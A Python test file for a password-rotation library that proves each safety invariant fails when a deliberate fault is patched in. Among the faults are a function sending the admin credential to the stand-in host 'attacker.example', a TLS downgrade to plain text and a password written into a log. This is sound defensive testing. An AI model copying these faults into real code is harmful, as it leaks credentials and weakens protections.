"""Tests of the tests: each invariant has been seen to fail, by a rotation with one deliberate fault in it."""

from __future__ import annotations

import contextlib
import json
from dataclasses import dataclass, replace
from functools import partial
from typing import TYPE_CHECKING, Any
from unittest import mock

import pytest

from rotation.credentials import secret_format
from rotation.errors import AccountUnusable, NoWorkingCredential, RotationError
from rotation.model import Ownership, Password, Stage
from rotation.strategies import admins, logins, recovery
from rotation.strategies.alternating_users import AlternatingUsers
from rotation.strategies.pending_version import promote
from rotation.strategies.single_user import SingleUser
from tests.support.crashes.invariants import Chronicle, Invariant, Kind, Sight, Violated, require_kept, violations
from tests.support.crashes.recorder import sight_of, watched
from tests.support.memory.engine import Account, MemorySession
from tests.support.memory.interruptions import fail
from tests.support.memory.stage import MemoryStage

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from rotation.delivery import Delivery
    from rotation.model import Secret

LEVEL, SET_PASSWORD = MemorySession.level, MemorySession.set_password
PARSE, FIRST_ACCEPTED = secret_format.parse, logins.first_accepted

single = MemoryStage
pair = partial(MemoryStage, admin=True)
by_admin = partial(MemoryStage, admin=True, rotation={"strategy": "single-user"})


@dataclass(frozen=True)
class Fault:
    """One thing that is broken: where it is played, what is replaced by what, and what else happens."""

    stage: Callable[[], MemoryStage]
    places: tuple[tuple[object, str, object], ...]
    disturb: Callable[[MemoryStage], object] = lambda _: None
    chronicle: dict[str, object] | None = None
    also: frozenset[Invariant] = frozenset()
    """What cannot but break with it."""

    def play(self, *, broken: bool) -> set[Invariant]:
        """Rotate with the fault or without it, and give the invariants that are broken."""
        stage = self.stage()
        self.disturb(stage)
        chronicle = watched(stage)
        vars(chronicle).update(self.chronicle or {})
        with contextlib.ExitStack() as stack:
            for owner, name, replacement in self.places if broken else ():
                stack.enter_context(mock.patch.object(owner, name, replacement))
            with contextlib.suppress(RotationError):
                stage.play(stage.store.rotate())
        known = {"by-hand", "another's"}
        seen = stage.held_passwords() | {stage.credential().password.reveal()}
        sight = sight_of(stage, known=known, in_the_window=bool(known & seen))
        return {violation.invariant for violation in violations(sight, chronicle)}


def promote_at_once(_: object, delivery: Delivery) -> None:
    """Move the label before any server has heard of the password."""
    promote(delivery, delivery.current.version)


def set_it_cut_short(session: MemorySession, username: str, password: Password) -> None:
    """Keep the first eight characters, as old servers do."""
    SET_PASSWORD(session, username, Password(password.reveal()[:8]))


def level_to(rights: set[str]) -> Callable[..., Any]:
    """Return the clone other rights than the base's."""

    def level(session: MemorySession, pair: Any, password: Any, *, rehearse: bool = False) -> Any:  # noqa: ANN401
        LEVEL(session, pair, password, rehearse=rehearse)
        session._account(pair.clone).rights = rights  # noqa: SLF001 the double's own
        return []

    return level


def note_the_password(_: object, delivery: Delivery) -> None:
    """Say too much."""
    delivery.observer.note("Setting", password=delivery.pending.credential.password.reveal())


def parse_without_tls(*arguments: Any) -> Secret:  # noqa: ANN401 passed on
    """Fall back to plain text."""
    secret = PARSE(*arguments)
    return replace(secret, address=replace(secret.address, tls=False))


def pending_first(delivery: Delivery, _: object) -> Iterator[Secret]:
    """Try the new password before it is set, as AWS's functions do."""
    yield delivery.pending
    yield delivery.current


def go_on_as_admin(delivery: Delivery, candidates: Any, admin: Any = None) -> Any:  # noqa: ANN401 passed on
    """Let the admin act because nobody else was let in."""
    try:
        return FIRST_ACCEPTED(delivery, candidates, admin)
    except NoWorkingCredential:
        return logins.Accepted(delivery.current, admins.open_admin(delivery, admin))


def open_admin_elsewhere(delivery: Delivery, admin: Secret) -> Any:  # noqa: ANN401 a session
    """Send the admin's password to whatever host the application's secret names."""
    place = replace(admin.address, host="attacker.example")
    return delivery.engine.connect(place, admin.credential, delivery.deadline)


def change_by_hand(stage: MemoryStage) -> None:
    """Let somebody change the password outside of the secret, which has old versions."""
    stage.server.accounts["app"].password = "by-hand"
    document = json.loads(stage.store.value_at(Stage.CURRENT))
    for number in range(9):
        stage.store.values[f"old-{number}"] = json.dumps({**document, "password": f"old-password-{number}"})


def lock_the_account(stage: MemoryStage) -> None:
    """Let the server say that the account is locked."""
    locked = AccountUnusable("locked", engine="memory", locked=True)
    stage.server.effect = fail("connect", "before", locked, times=2)


def take_the_name(stage: MemoryStage) -> None:
    """Let the clone's name be another application's."""
    stage.server.accounts["app_clone"] = Account("another's", {"read orders"})


def write(**changed: object) -> Callable[[MemoryStage], None]:
    """Let somebody who may only write the secret store a value, after a rotation."""

    def put(stage: MemoryStage) -> None:
        stage.rotate()
        document = json.loads(stage.store.value_at(Stage.CURRENT))
        stage.store.begin(json.dumps({**document, "password": "by-hand", **changed}))

    return put


nothing = mock.Mock(return_value=())
anything = mock.Mock(return_value=True)
ours = mock.Mock(return_value=Ownership.OURS)

FAULTS: dict[Invariant, list[Fault]] = {
    Invariant.CURRENT_LOGS_IN: [
        Fault(pair, ((AlternatingUsers, "set", promote_at_once),)),
    ],
    Invariant.NO_PASSWORD_IS_LOST: [
        Fault(
            single,
            ((MemorySession, "set_password", set_it_cut_short),),
            also=frozenset({Invariant.CURRENT_LOGS_IN}),
        ),
    ],
    Invariant.ACCESS_IS_EQUAL: [
        Fault(pair, ((MemorySession, "level", level_to(rights)), (MemorySession, "check_access", nothing)))
        for rights in ({"read orders"}, {"read orders", "write orders", "drop orders"})
    ],
    Invariant.ONLY_OURS_IS_CHANGED: [
        Fault(pair, ((MemorySession, "ownership", ours),), take_the_name, {"ours": frozenset({"app"})}),
        Fault(pair, ((admins, "open_admin", open_admin_elsewhere),)),
    ],
    Invariant.NOTHING_IS_WRITTEN_DOWN: [
        Fault(single, ((SingleUser, "set", note_the_password),)),
    ],
    Invariant.TLS_STAYS_ON: [
        Fault(
            single,
            ((secret_format, "parse", parse_without_tls),),
            also=frozenset({Invariant.ONLY_PROVEN_DECIDES}),
        ),
    ],
    Invariant.HEALTHY_FAILS_NO_LOGIN: [
        Fault(single, ((recovery, "candidates", pending_first),), chronicle={"healthy": True}),
    ],
    Invariant.ONLY_ACCEPTANCE_COUNTS: [
        Fault(
            by_admin,
            ((logins, "first_accepted", go_on_as_admin),),
            change_by_hand,
            also=frozenset({Invariant.ONLY_PROVEN_DECIDES}),
        ),
    ],
    Invariant.ACCOUNTS_STAY_OPEN: [
        Fault(single, ((logins, "MOST_REFUSALS", 9), (recovery, "MOST_UNLABELLED", 9)), change_by_hand),
        Fault(single, ((logins, "_ends_the_search", lambda _: False),), lock_the_account),
    ],
    Invariant.ONLY_PROVEN_DECIDES: [
        Fault(single, ((recovery, "may_stand_in", anything),), write(rotation={"passwordLength": 12})),
        Fault(single, ((recovery, "may_stand_in", anything),), write(rotation={"excludePunctuation": True})),
        Fault(
            pair,
            ((recovery, "may_stand_in", anything),),
            write(username="app", ssl=False),
            {"plain_text_allowed": True},
        ),
        Fault(pair, ((recovery, "may_stand_in", anything),), write(username="app", port=15432)),
    ],
}
"""For each invariant what breaks it, and nothing else."""

CASES = [(invariant, fault) for invariant, faults in FAULTS.items() for fault in faults]


def test_each_invariant_has_a_fault() -> None:
    """None is believed that was not seen to fail."""
    assert set(FAULTS) == set(Invariant)


@pytest.mark.parametrize(("invariant", "fault"), CASES)
def test_a_fault_breaks_the_invariant(invariant: Invariant, fault: Fault) -> None:
    """With the fault this invariant is broken, and no other that need not be; without it none is."""
    assert fault.play(broken=True) == {invariant, *fault.also}
    assert fault.play(broken=False) == set()


def test_what_is_broken_is_named() -> None:
    """The error says which invariant, what broke it, and what led there; it never shows the password."""
    sight = Sight(current_logs_in=False, written={"the log": 'x "s3cr\\"et" x'}, passwords=['s3cr"et'])
    with pytest.raises(Violated) as error:
        require_kept(sight, told="schedule 7")
    assert Invariant.CURRENT_LOGS_IN in str(error.value)
    assert "the log holds one" in str(error.value)
    assert "schedule 7" in str(error.value)
    assert "s3cr" not in str(error.value)


def test_nothing_seen_breaks_nothing() -> None:
    """What a test does not observe it does not hold against anybody."""
    require_kept()
    require_kept(Sight(current_logs_in=False, in_the_window=True), Chronicle())


def test_invocations_are_told_apart() -> None:
    """Refusals are counted by invocation."""
    chronicle = Chronicle(frozenset({"app"}))
    for token in "ab":
        chronicle.note(Kind.BEGAN, token)
        for _ in range(4):
            chronicle.note(Kind.REFUSED, "app")
    require_kept(None, chronicle)
    chronicle.note(Kind.REFUSED, "app")
    assert [it.invariant for it in violations(None, chronicle)] == [Invariant.ACCOUNTS_STAY_OPEN]
    chronicle.clear()
    require_kept(None, chronicle)
